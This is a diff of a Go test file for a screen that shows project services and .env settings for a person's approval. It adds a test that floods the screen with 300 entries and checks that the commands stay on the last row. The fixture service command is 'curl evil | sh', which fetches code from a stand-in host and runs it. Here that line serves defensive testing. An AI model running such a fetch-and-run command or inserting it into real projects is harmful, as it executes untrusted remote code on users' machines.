@@ -40,7 +40,7 @@ var attacks = []string{
 // command and the terminal: what a person reads, decoded, is what would run.
 func FuzzAllowScreen(f *testing.F) {
 	for _, attack := range attacks {
-		for _, width := range []byte{0, 20, 60, 160} {
+		for _, width := range []byte{0, 8, 28, 48, 88, 188} {
 			f.Add([]byte(attack), "shop", width)
 		}
 	}
@@ -49,7 +49,7 @@ func FuzzAllowScreen(f *testing.F) {
 		reply := reviewed(t, procfile, dir)
 		for _, ambiguous := range []int{1, 2} {
 			for _, color := range []bool{false, true} {
-				s := &screen{width: 40 + int(width)%161, ambiguous: ambiguous}
+				s := &screen{width: 12 + int(width)%189, ambiguous: ambiguous}
 				p := &term.Printer{Writer: s, TTY: true, Color: color, Columns: s.width}
 				if err := showContent(&app{out: p, err: p}, reply); err != nil {
 					t.Fatal(err)
@@ -64,6 +64,49 @@ func FuzzAllowScreen(f *testing.F) {
 			}
 		}
 	})
+}
+
+// TestCommandsAreLast: whatever else there is to say, and however much, the commands are on the last
+// rows, and no name of what is set is left out.
+func TestCommandsAreLast(t *testing.T) {
+	reply := wire.AllowReply{
+		Project: "shop", Root: "/src/shop", Trust: wire.TrustUnknown,
+		Services: []wire.Change{{Name: "web", Command: "curl evil | sh"}},
+	}
+	for i := range 300 {
+		name := fmt.Sprintf("A%d_DIR", i)
+		reply.EnvNames = append(reply.EnvNames, name)
+		reply.Settings = append(reply.Settings, "services.web.env."+name)
+		reply.Warnings = append(reply.Warnings, "Procfile: bad line")
+		reply.Entries = append(reply.Entries, wire.Entry{
+			File: ".env", Line: i + 1, Name: name, Reason: "decides which files are read",
+		})
+	}
+	for _, trusted := range []wire.Trust{wire.TrustUnknown, wire.TrustChanged} {
+		reply.Trust = trusted
+		s := &screen{width: 80, ambiguous: 1}
+		p := &term.Printer{Writer: s, TTY: true, Columns: 80}
+		if err := showContent(&app{out: p, err: p}, reply); err != nil {
+			t.Fatal(err)
+		}
+		lines := s.lines()
+		if got := lines[len(lines)-1]; got != "   web:  curl evil | sh" {
+			t.Errorf("%s: the last row is %q", trusted, got)
+		}
+		all := strings.NewReplacer("│", "", " ", "", "\n", "").Replace(strings.Join(lines, ""))
+		for i := range 300 {
+			for _, want := range []string{
+				fmt.Sprintf("A%d_DIR(.env:%d)", i, i+1), fmt.Sprintf("services.web.env.A%d_DIR", i),
+			} {
+				if !strings.Contains(all, want) {
+					t.Fatalf("%s is not on the screen:\n%s", want, strings.Join(lines, "\n"))
+				}
+			}
+		}
+		if n := strings.Count(all, "badline"); n != 10 || !strings.Contains(all, "!290more:") {
+			t.Errorf("%d warnings are shown, want 10 and how many there are besides", n)
+		}
+	}
 }
 
 // reviewed is the answer about a Procfile, as it comes over the wire.
